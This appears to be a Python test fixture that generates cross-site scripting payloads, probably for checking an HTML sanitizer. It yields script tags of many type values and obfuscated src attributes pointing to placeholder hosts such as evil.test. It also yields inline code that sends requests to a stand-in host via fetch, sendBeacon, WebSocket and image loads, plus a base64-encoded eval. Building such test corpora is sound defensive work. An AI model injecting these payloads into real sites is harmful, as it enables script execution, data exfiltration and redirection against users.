"""Script elements of every type, and data blocks that a browser or a crawler acts on."""

from collections.abc import Iterator

from tests.security.payloads.marks import CALL, HOST, IMAGE, NUMBER

_TYPES = (
    "module text/javascript application/javascript text/ecmascript text/jscript text/livescript text/javascript1.5 "
    "text/vbscript importmap speculationrules application/ld+json application/json text/html text/template text/babel "
    "text/x-handlebars webbundle TEXT/JAVASCRIPT x"
).split()
_BODIES = {
    "importmap": f'{{"imports":{{"x":"{HOST}"}}}}',
    "speculationrules": f'{{"prefetch":[{{"source":"list","urls":["{HOST}"]}}]}}',
    "application/ld+json": f'{{"@context":"https://schema.org","url":"{HOST}"}}',
}
_ATTRIBUTES = (
    f"src={HOST}",
    f"src='{HOST}'",
    f"src=data:text/javascript,{CALL}",
    f"src=data:,{CALL}",
    f"src=data:;base64,cHduKDEp{NUMBER}",
    f"SRC={HOST}",
    f"/src={HOST}",
    f"a='>' src={HOST}",
    f'"">" src={HOST}',
    f"src='{HOST}' async",
    f"src='{HOST}' defer nomodule",
    f"src='{HOST}' type=module crossorigin",
    f"src='{HOST}' integrity=sha256-x nonce=x",
    f"src=//evil.test\\@example.org/{NUMBER}",
    f"src=\\\\evil.test\\{NUMBER}",
    f"src=//evil\u3002test/{NUMBER}",
    f"src=//evil.test/{NUMBER}?<B>",
    f"xlink:href={HOST}",
    f"href={HOST}",
    f"language=vbscript src={HOST}",
    f"for=window event=onload() id={NUMBER}",
)
_CODES = (
    f"document.write('{IMAGE}')",
    f"document.body.innerHTML='{IMAGE}'",
    f"top.location='{HOST}'",
    f"location='{HOST}'",
    f"location=name||'javascript:{CALL}'",
    f"open('{HOST}','_top')",
    f"document.cookie='x=y';{CALL}",
    f"history.pushState(0,0,'/{NUMBER}')",
    f"fetch('{HOST}')",
    f"new WebSocket('ws:{HOST}')",
    f"new EventSource('{HOST}')",
    f"navigator.sendBeacon('{HOST}')",
    f"import('{HOST}')",
    f"new Worker('data:,{CALL}')",
    f"postMessage({NUMBER},'*');{CALL}",
    f"setInterval(()=>{{}},9);{CALL}",
    f"Promise.reject().catch(()=>{CALL})",
    f"queueMicrotask(()=>{CALL})",
    f"new Image().src='{HOST}'",
    f"document.forms[0]?.submit();{CALL}",
    f"alert({NUMBER})",
    f"confirm({NUMBER})",
    f"prompt({NUMBER})",
    f"print();{CALL}",
    f"document.title='{NUMBER}';{CALL}",
    f"<!--\n{CALL}//-->",
    f"-->{CALL}\n{CALL}",
    f"//<![CDATA[\n{CALL}\n//]]>",
    f"eval(atob('cHduKDEp'));{CALL}",
    f"[][(![]+[])[+[]]];{CALL}",
    f"\u2028{CALL}\u2029",
    f"\ufeff{CALL}",
)


def payloads() -> Iterator[str]:
    """Yield each type inline and from another host, each way to name a source, and each thing that a script does."""
    for kind in _TYPES:
        yield f"<script type={kind}>{_BODIES.get(kind, CALL)}</script>"
        yield f"<script type='{kind}' src={HOST}></script>"
    yield from (f"<script {attributes}></script>" for attributes in _ATTRIBUTES)
    yield from (f"<p>x</p><script {attributes}>{CALL}</script>" for attributes in _ATTRIBUTES)
    yield from (f"<script>{code}</script>" for code in _CODES)
    yield from (f"<svg><script>{code.replace('<', '&lt;')}</script></svg>" for code in _CODES)
